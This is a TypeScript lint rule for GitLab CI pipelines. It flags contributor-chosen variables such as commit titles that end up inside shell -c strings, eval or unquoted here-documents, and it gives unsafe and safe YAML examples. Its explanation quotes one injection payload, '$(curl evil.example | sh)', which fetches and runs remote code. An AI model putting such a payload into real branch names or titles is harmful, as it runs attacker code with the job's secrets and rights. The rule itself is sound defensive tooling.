import { z } from 'zod';
import type { CommandWord, JobCommand } from './job-command.ts';
import { defineRule } from './rule.ts';
import { runnerJobs } from './runner-jobs.ts';
import { commandsOf } from './script-commands.ts';
import { USER_VARIABLES, userVariableIn } from './user-variables.ts';

export const variableInjection = defineRule({
  id: 'variable-injection',
  summary: 'A text that any contributor chooses becomes part of a command.',
  why: 'A branch name or a title such as `$(curl evil.example | sh)` then runs in the job, with its variables and its rights.',
  fix: 'Give the value as an argument: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`.',
  blindSpots:
    'Only shells, `eval` and here-documents that a shell runs are looked at, not other interpreters, remote shells or scripts of the repository. Inputs that go through `expand_vars` are taken as the text they give.',
  keywords: ['before_script', 'script', 'after_script', 'hooks:pre_get_sources_script', 'run'],
  level: 'warning',
  source: 'https://docs.gitlab.com/ci/pipeline_security/',
  examples: {
    bad: [
      { yaml: 'say:\n  script:\n    - bash -c "echo $CI_COMMIT_TITLE"\n' },
      { yaml: 'say:\n  variables: {TITLE: $CI_MERGE_REQUEST_TITLE}\n  script:\n    - eval "echo $TITLE"\n' },
    ],
    good: [
      { yaml: `say:\n  script:\n    - bash -c 'echo "$1"' _ "$CI_COMMIT_TITLE"\n    - echo "$CI_COMMIT_TITLE"\n` },
    ],
  },
  options: z.strictObject({}),
  messages: {
    argument: '{value} stands inside of a text that {program} runs as commands.',
    document: '{value} stands inside of a here-document that {program} runs as commands.',
  },
  *check(config) {
    for (const job of runnerJobs(config)) {
      for (const command of commandsOf(job)) {
        for (const word of runTexts(command)) {
          const name = injectedName(word);
          if (name === null) continue;
          const value = `$${name}`;
          const because = word.from.map((variable) => variable.at);
          yield { at: word.at, job, message: 'argument', value, values: { value, program: command.name }, because };
        }
        if (!SHELLS.has(command.name) || !command.runsText) continue;
        for (const document of [command, ...command.from].flatMap((feeder) => feeder.hereDocuments)) {
          const name = document.quoted ? null : userVariableIn(document.text.replaceAll(/\\\$/g, ''));
          if (name === null) continue;
          const start = Math.max(0, document.text.indexOf(name));
          const at = document.place({ start, end: start + name.length });
          const value = `$${name}`;
          yield { at, job, message: 'document', value, values: { value, program: command.name } };
        }
      }
    }
  },
});

const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh']);

/** The words that a command reads as commands of their own. */
function runTexts({ name, words }: JobCommand): readonly CommandWord[] {
  if (name === 'eval') return words.slice(1);
  if (!SHELLS.has(name) && name !== 'su') return [];
  const option = words.findIndex((word) => /^-[a-z]*c$/.test(word.text) || word.text === '--command');
  const script = option === -1 ? undefined : words[option + 1];
  return script ? [script] : [];
}

/** A variable that the outer shell puts in: by name, or in the value of one that it puts in. */
function injectedName(word: CommandWord): string | null {
  return word.names.find((name) => USER_VARIABLES.has(name)) ?? null;
}
